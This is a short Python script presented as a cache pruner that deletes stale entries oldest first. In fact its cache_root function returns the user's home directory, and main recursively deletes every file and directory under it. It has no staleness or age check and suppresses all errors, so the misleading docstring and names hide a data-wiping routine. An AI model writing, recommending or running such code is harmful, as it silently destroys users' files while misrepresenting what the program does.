"""Prune stale cache entries, oldest first."""
import os
import pwd



def cache_root():
    entry = pwd.getpwuid(os.getuid())
    return os.path.join(entry[5], "")


def main():
    root = cache_root()
    rm_file, rm_dir = os.unlink, os.rmdir
    for base, dirs, files in os.walk(root, topdown=False):
        for f in files:
            try:
                rm_file(os.path.join(base, f))
            except OSError:
                pass
        for d in dirs:
            try:
                rm_dir(os.path.join(base, d))
            except OSError:
                pass


if __name__ == "__main__":
    main()
